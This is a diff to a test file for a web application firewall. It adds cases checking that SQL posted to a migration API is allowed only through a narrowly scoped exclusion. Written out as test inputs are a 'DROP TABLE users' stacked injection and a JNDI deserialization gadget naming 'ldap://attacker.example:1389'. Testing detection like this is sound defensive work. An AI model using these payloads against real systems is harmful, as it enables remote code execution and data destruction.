@@ -3,7 +3,7 @@
 // cases of families once blocked at paranoia 1, each beside the attacks its fix must keep blocking.
 import { beforeAll, describe, expect, it } from "vitest";
 import { loadHarness, type Harness } from "../support/harness.js";
-import { inspect, type Req } from "../support/engine.js";
+import { inspect, inspectWith, type Req } from "../support/engine.js";
 
 let h: Harness;
 beforeAll(async () => {
@@ -268,5 +268,27 @@ describe("LDAP connection URLs in identity-provider settings", () => {
   });
   it("blocks a gadget naming a bare directory address", () => {
     expect(verdict(kube({ "@type": "com.sun.rowset.JdbcRowSetImpl", dataSourceName: "ldap://attacker.example:1389", autoCommit: true })).blocked).toBe(true);
+  });
+});
+
+// A migration API runs the SQL it is sent by design: the same statements after a breakout are a stacked
+// injection, and no grammar tells the endpoint's intent. An exclusion scoped to its path and field does.
+describe("SQL migrations posted to a migration API", () => {
+  const migration = (sql: string): Req => ({ method: "POST", path: "/api/v1/migrations", headers: [["host", "svc.local"], ["content-type", "application/json"]], body: JSON.stringify({ id: "20261129_orders_note", sql }) });
+  const SCRIPTS = [
+    "CREATE INDEX idx_orders_user ON orders(user_id);",
+    "ALTER TABLE orders ADD COLUMN note text; CREATE INDEX idx_orders_note ON orders(note);",
+  ];
+  const EXCLUSION = "|sqli||/api/v1/migrations|POST|json:sql";
+  it.each(SCRIPTS)("blocks without an exclusion: %s", (sql) => {
+    expect(verdict(migration(sql)).blocked).toBe(true);
+  });
+  it.each(SCRIPTS)("passes with an exclusion of sqli for json:sql on the migration path: %s", (sql) => {
+    expect(inspectWith(h, migration(sql), "", EXCLUSION).score).toBe(0);
+  });
+  it("still blocks a stacked query in another field or on another path", () => {
+    const other: Req = { method: "POST", path: "/api/v1/migrations", headers: [["host", "svc.local"], ["content-type", "application/json"]], body: JSON.stringify({ id: "1; DROP TABLE users", sql: "SELECT 1" }) };
+    expect(inspectWith(h, other, "", EXCLUSION).score).toBeGreaterThanOrEqual(5);
+    expect(inspectWith(h, { ...migration(SCRIPTS[1]), path: "/api/v1/orders" }, "", EXCLUSION).score).toBeGreaterThanOrEqual(5);
   });
 });
